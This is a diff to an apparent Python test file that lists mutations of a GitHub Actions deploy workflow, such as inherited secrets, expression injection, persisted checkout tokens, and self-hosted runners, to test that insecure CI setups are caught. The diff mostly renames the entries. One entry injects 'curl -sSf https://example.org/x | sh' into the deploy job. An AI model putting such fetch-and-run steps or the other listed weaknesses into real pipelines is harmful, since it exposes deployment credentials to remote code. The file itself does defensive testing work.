@@ -100,28 +100,40 @@ ATTACKS: dict[str, Change] = {
     ),
     "secrets handed on": in_job("build", put("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")),
     "an expression inside a script": in_job("build", put('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
-    "a checkout beside the role": in_job(
+    "a checkout in the job with the role": in_job(
         "deploy",
         put(
             "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
         ),
     ),
     "a checkout that keeps its token": put("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
-    "make beside the role": in_job("deploy", put("run: tar ", "run: make install && tar ")),
-    "pip beside the role": in_job("deploy", put("run: tar ", "run: pip install boto3 && tar ")),
-    "pip as a module beside the role": in_job("deploy", put("run: tar ", "run: python3 -m pip install boto3; tar ")),
-    "npm beside the role": in_job("deploy", put("run: tar ", "run: npm ci; tar ")),
-    "a system package beside the role": in_job("deploy", put("run: tar ", "run: sudo apt-get install -y jq; tar ")),
-    "a download beside the role": in_job("deploy", put("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")),
-    "a clone beside the role": in_job("deploy", put("run: tar ", "run: git clone https://example.org/x; tar ")),
-    "another action beside the role": in_job("deploy", put(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")),
-    "another action beside the attestation": in_job("attest", put("actions/attest@", "someone/attest@", 1)),
+    "make in the job with the role": in_job("deploy", put("run: tar ", "run: make install && tar ")),
+    "pip in the job with the role": in_job("deploy", put("run: tar ", "run: pip install boto3 && tar ")),
+    "pip as a module in the job with the role": in_job(
+        "deploy", put("run: tar ", "run: python3 -m pip install boto3; tar ")
+    ),
+    "npm in the job with the role": in_job("deploy", put("run: tar ", "run: npm ci; tar ")),
+    "a system package in the job with the role": in_job(
+        "deploy", put("run: tar ", "run: sudo apt-get install -y jq; tar ")
+    ),
+    "a download in the job with the role": in_job(
+        "deploy", put("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
+    ),
+    "a clone in the job with the role": in_job(
+        "deploy", put("run: tar ", "run: git clone https://example.org/x; tar ")
+    ),
+    "another action in the job with the role": in_job(
+        "deploy", put(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
+    ),
+    "another action in the job of the attestation": in_job("attest", put("actions/attest@", "someone/attest@", 1)),
     "an artefact taken unchecked": in_job("deploy", put(DIGEST, "run: ls")),
     "an artefact checked against itself": in_job(
         "deploy", put(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
     ),
     "a check that may fail": in_job("deploy", put(DIGEST, f"{DIGEST} || true")),
-    "a check that goes on": in_job("deploy", put(DIGEST, f"continue-on-error: true\n        {DIGEST}")),
+    "a check that continues after a failure": in_job(
+        "deploy", put(DIGEST, f"continue-on-error: true\n        {DIGEST}")
+    ),
     "a check that is left out at times": in_job(
         "deploy", put(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
     ),
@@ -144,7 +156,7 @@ ATTACKS: dict[str, Change] = {
     "a cache that others fill": in_job(
         "build", put("python-version-file: .python-version", "python-version-file: .python-version, cache: pip")
     ),
-    "a service beside what is deployed": in_job(
+    "a service next to what is deployed": in_job(
         "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
     ),
     "a machine of somebody's own": put("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
